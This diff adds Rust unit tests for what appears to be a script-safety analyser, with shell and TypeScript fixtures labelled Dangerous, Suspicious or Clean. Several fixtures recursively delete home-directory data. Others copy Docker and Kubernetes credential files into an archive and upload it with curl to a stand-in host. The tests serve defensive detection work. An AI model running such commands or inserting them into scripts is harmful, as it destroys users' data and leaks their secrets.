@@ -7511,3 +7511,199 @@ fn javascript_array_entries_keep_their_elements() {
     ];
     check_all(&rows);
 }
+
+/// A function prints every line it echoes, not only its last: a loop reading its output
+/// (`while read d; do ...; done < <(list)`, `x=$(list)`) sees each of them. A line known only
+/// at run time stays a value nobody knows beside the known ones.
+#[test]
+fn every_line_a_function_prints_is_one_of_its_values() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // a directory in the home printed before the project's own build directory
+        (
+            Sh,
+            "#!/bin/bash\nset -eu\nstale() {\n  echo \"$HOME/.local/share/notes-app\"\n  echo \"$PWD/build\"\n}\nwhile read -r d; do\n  rm -rf \"$d\"\ndone < <(stale)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // the same lines from a helper the printing function calls, read in a function
+        (
+            Sh,
+            "#!/bin/bash\nset -eu\nmine() {\n  echo \"$PWD/out\"\n}\nstale() {\n  mine\n  local s\n  s=\"$(some-tool where 2>/dev/null || true)\"\n  echo \"${s:-$HOME/.local/share/notes-app/db}\"\n}\nmain() {\n  local d\n  while read -r d; do\n    [ -e \"$d\" ] || continue\n    rm -rf \"$d\"\n  done < <(stale)\n}\nmain\n",
+            Dangerous,
+            "destructive",
+        ),
+        // a printed line with a default in the home, captured whole
+        (
+            Sh,
+            "#!/bin/bash\nwhere() {\n  local s\n  s=\"$(some-tool where || true)\"\n  echo \"${s:-$HOME/.local/share/notes-app}\"\n}\ngone() {\n  local w\n  w=\"$(where)\"\n  echo \"$w\"\n}\nwhile read -r d; do rm -rf \"$d\"; done < <(gone)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // every line in the project's build directories: clean
+        (
+            Sh,
+            "#!/bin/bash\nset -eu\nstale() {\n  echo \"$PWD/build\"\n  echo \"$PWD/dist\"\n  echo \"$PWD/.cache/tsc\"\n}\nwhile read -r d; do\n  rm -rf \"$d\"\ndone < <(stale)\n",
+            Clean,
+            "",
+        ),
+        // a line known only at run time beside the project's: a path nobody knows
+        (
+            Sh,
+            "#!/bin/bash\nset -eu\nstale() {\n  echo \"$PWD/build\"\n  some-tool where\n}\nwhile read -r d; do\n  rm -rf \"$d\"\ndone < <(stale)\n",
+            Suspicious,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nset -eu\nstale() {\n  echo \"$PWD/build\"\n  echo \"$(some-tool where)\"\n}\nwhile read -r d; do\n  rm -rf \"$d\"\ndone < <(stale)\n",
+            Suspicious,
+            "destructive",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// What a class of the script stored in its members (a parameter property with a default) is
+/// what a caller reads from an instance (`paths.cacheRoot`) and what a loop over a method's
+/// returned list sees, besides a value nobody knows (a caller may have given the constructor
+/// another); a parameter typed with the script's class (`function clear(paths: Paths)`) is an
+/// instance of it.
+#[test]
+fn members_of_the_scripts_own_instances_reach_their_callers() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // a list of members returned by a method, walked in a function given the instance
+        (
+            Ts,
+            "import { rm } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport path from 'node:path';\nclass Spots {\n  constructor(\n    readonly out = path.join(process.cwd(), 'out'),\n    readonly store = process.env.NOTES_STORE ?? homedir(),\n  ) {}\n  all(): string[] {\n    return [this.out, this.store];\n  }\n}\nasync function wipe(s: Spots): Promise<void> {\n  for (const d of s.all()) await rm(d, { recursive: true, force: true });\n}\nwipe(new Spots());\n",
+            Dangerous,
+            "destructive",
+        ),
+        // a member read from an instance
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nimport { homedir } from 'node:os';\nclass Spots {\n  constructor(readonly store = homedir()) {}\n}\nconst s = new Spots();\nrmSync(s.store, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        // the same members in the project: read outside the class, a value a caller may set
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nimport path from 'node:path';\nclass Spots {\n  constructor(readonly out = path.join(process.cwd(), 'out')) {}\n}\nconst s = new Spots();\nrmSync(s.out, { recursive: true, force: true });\n",
+            Suspicious,
+            "destructive",
+        ),
+        // ... and read by the class's own method, the project's build output
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nimport path from 'node:path';\nclass Spots {\n  constructor(readonly out = path.join(process.cwd(), 'out')) {}\n  wipe(): void {\n    rmSync(this.out, { recursive: true, force: true });\n  }\n}\nnew Spots().wipe();\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `cp` reads every file its source may name: a loop over a list of paths, one of them a
+/// credential file, copying each into a bundle directory copies the credential there.
+#[test]
+fn a_copy_reads_every_file_its_source_may_name() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // an array of paths in a function, copied into a directory the script packs and sends
+        (
+            Sh,
+            "#!/bin/bash\nset -eu\nDEST=\"$PWD/diag/now\"\nmkdir -p \"$DEST\"\ngather() {\n  local -a picks=(\"$PWD/package.json\" \"$HOME/.docker/config.json\")\n  for p in \"${picks[@]}\"; do\n    [ -f \"$p\" ] && cp \"$p\" \"$DEST/\" || true\n  done\n}\ngather\ntar -C \"$PWD/diag\" -czf \"$DEST.tgz\" now\ncurl -s -F \"b=@$DEST.tgz\" https://intake.example.net/b\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the loop's words themselves
+        (
+            Sh,
+            "#!/bin/bash\nmkdir -p diag\nfor p in README.md \"$HOME/.kube/config\"; do\n  cp \"$p\" diag/\ndone\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the same loop over the project's own files: clean
+        (
+            Sh,
+            "#!/bin/bash\nmkdir -p diag\nfor p in README.md package.json; do\n  cp \"$p\" diag/\ndone\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `pwd` prints the directory the shell is in, also outside a `$(...)` of its own: a function
+/// whose subshell changes directory and prints it (`(cd "$ROOT" && cd .. && pwd)`, a climb in
+/// a loop) gives that directory; a directory known only at run time stays unknown.
+#[test]
+fn pwd_prints_the_directory_a_subshell_went_to() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Sh,
+            "#!/bin/bash\nROOT=\"$(cd \"$(dirname \"$0\")/..\" && pwd)\"\nabove() {\n  (cd \"$ROOT\" && cd .. && pwd)\n}\nfind \"$(above)\" -name '*.sqlite' -delete\n",
+            Dangerous,
+            "destructive",
+        ),
+        // a climb repeated in a loop: at least one level above the project
+        (
+            Sh,
+            "#!/bin/bash\nROOT=\"$(cd \"$(dirname \"$0\")/..\" && pwd)\"\nup() {\n  local n=\"${1:-2}\"\n  (cd \"$ROOT\" && for _ in $(seq 1 \"$n\"); do cd ..; done; pwd)\n}\nbase=\"$(up 2)\"\nfind \"$base\" -type f -name '*.db' -delete\n",
+            Dangerous,
+            "destructive",
+        ),
+        // the project's own build directory: clean
+        (
+            Sh,
+            "#!/bin/bash\nROOT=\"$(cd \"$(dirname \"$0\")/..\" && pwd)\"\nout() {\n  (cd \"$ROOT/build\" && pwd)\n}\nfind \"$(out)\" -name '*.o' -delete\n",
+            Clean,
+            "",
+        ),
+        // a directory known only at run time: unknown
+        (
+            Sh,
+            "#!/bin/bash\nwhere() {\n  (cd \"$1\" && pwd)\n}\nfind \"$(where \"$TARGET\")\" -name '*.o' -delete\n",
+            Suspicious,
+            "destructive",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// An archive made of a place a credential file was copied to (or of a directory holding one)
+/// holds the credential: sending the archive sends it. The same archive of the project's own
+/// files sends nothing private.
+#[test]
+fn an_archive_of_a_copied_credential_holds_it() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Sh,
+            "#!/bin/bash\nD=\"$PWD/diag/now\"\nmkdir -p \"$D\"\ncp \"$HOME/.docker/config.json\" \"$D/\"\ntar -C \"$(dirname \"$D\")\" -czf \"$D.tgz\" now\ncurl -s -F \"b=@$D.tgz\" https://intake.example.net/b\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nmkdir -p diag/now\ncp \"$HOME/.docker/config.json\" diag/now/\ntar czf diag.tgz diag\ncurl -s -T diag.tgz https://intake.example.net/b\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the project's own files packed and sent to a host nobody vouches for: suspicious
+        (
+            Sh,
+            "#!/bin/bash\nD=\"$PWD/diag/now\"\nmkdir -p \"$D\"\ncp package.json \"$D/\"\ntar -C \"$(dirname \"$D\")\" -czf \"$D.tgz\" now\ncurl -s -F \"b=@$D.tgz\" https://intake.example.net/b\n",
+            Suspicious,
+            "network",
+        ),
+    ];
+    check_all(rows);
+    // The send itself is the secret's: its rule names the network.
+    let report = crate::review(Sh, rows[0].1);
+    assert!(
+        report
+            .findings
+            .iter()
+            .any(|f| f.rule == "secret-to-network"),
+        "{report:#?}"
+    );
+}
